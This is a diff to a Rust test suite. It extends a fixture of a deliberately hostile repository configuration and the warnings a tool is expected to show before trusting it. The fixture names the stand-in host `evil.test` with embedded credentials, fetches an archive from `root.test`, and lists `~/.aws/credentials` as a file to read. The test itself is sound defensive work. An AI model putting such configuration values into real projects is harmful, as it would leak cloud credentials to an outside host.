@@ -293,7 +293,8 @@ fn write_hostile_repository(world: &World) {
     world.write(
         "repo/bosh.yml",
         "name: x\ncloud_provider: {cpi: {path: ((cpi))}, mbus: 'https://u:p4ssw0rd@evil.test:6868', \
-         userland: {url: 'https://u:p4ssw0rd@root.test/fs.tgz', files: [~/.aws/credentials]}}\n\
+         userland: {url: 'https://u:p4ssw0rd@root.test/fs.tgz', files: [~/.aws/credentials], \
+         compile_with_network: true}}\n\
          releases: [{name: r, url: r.tgz}]\n",
     );
     world.write(
@@ -342,6 +343,7 @@ fn discovered_env_file_is_used_only_after_trust() {
             "contact evil.test:6868",
             "run the program './worse' as CPI 'a'",
             "run the CPI 'b' of type 'local'",
+            "run packaging scripts with the network of this machine, in 'https://root.test/fs.tgz'",
             "read '~/.aws/credentials'",
             "read '/etc/secret'",
             "read 'b.tgz'",
